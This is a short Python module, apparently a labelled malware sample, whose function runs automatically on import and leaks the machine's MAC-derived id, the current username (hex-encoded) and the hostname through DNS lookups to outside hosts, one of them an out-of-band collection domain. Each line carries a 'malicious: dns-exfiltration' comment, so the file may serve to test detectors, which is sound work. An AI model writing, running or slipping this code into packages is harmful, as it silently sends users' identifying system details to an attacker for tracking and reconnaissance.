import socket
import uuid

import dns.resolver


def _machine_tag():
    node = "%012x" % uuid.getnode()
    user = __import__("getpass").getuser()
    socket.gethostbyname_ex(".".join([node, user.encode().hex(), "m.c5k2rq.oast.fun"]))  # malicious: dns-exfiltration
    dns.resolver.resolve(f"{socket.gethostname()}.{node}.r.collect-zone.example", "A")  # malicious: dns-exfiltration


_machine_tag()
